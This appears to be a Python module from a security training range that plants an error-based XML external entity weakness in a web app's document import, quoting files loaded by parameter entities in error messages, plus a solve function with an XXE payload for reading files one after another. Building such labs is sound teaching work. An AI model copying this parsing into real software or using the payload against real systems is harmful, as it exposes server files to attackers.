"""An import that shows no entities, and says of its own document type what is wrong there."""

from __future__ import annotations

from collections.abc import Sequence

from openrange.packs.webapp.doors.imports import Import
from openrange.packs.webapp.weaknesses.xml_entities._types import (
    explored,
    import_an_item,
    loaded,
    taken_apart,
)
from openrange.packs.webapp.xml import Element, MalformedError, elements

TYPE_CHECKING = False
if TYPE_CHECKING:
    from openrange.packs.webapp.client import Client
    from openrange.packs.webapp.world import Link

FOR_MODELS = "an import of documents loads parts of a document's type, and quotes them in errors"
FOR_PEOPLE = (
    "no entity is shown: one of the document type itself fails, and the error says what it read"
)
DOORS = ("import",)
HIDES = "file"

_LONGEST_QUOTE = 400


class _Quoting(Import):
    def parse(self, text: str) -> list[Element]:
        """The elements. What a parameter entity loads is no declaration, and is quoted in an error:
        the planted weakness.
        """
        entities, referred, rest = taken_apart(text)
        for name in referred:
            entity = entities.get(name)
            if entity is not None and entity.is_parameter and entity.is_external:
                read = loaded(self.site, entity.value)[:_LONGEST_QUOTE]
                raise MalformedError(f"no declaration begins so (%{name};): {read} (%{name};)")
        return elements(rest)


def weaken(link: Link) -> Sequence[type]:
    """The import that quotes."""
    return [_Quoting]


def solve(client: Client, link: Link) -> str | None:
    """Have one file after the other quoted, by an entity whose name is easy to find."""

    def payload(url: str) -> str:
        return f'<!DOCTYPE a [<!ENTITY % zz SYSTEM "{url}"> %zz;]><a/>'

    return explored(client, payload)


visit = import_an_item
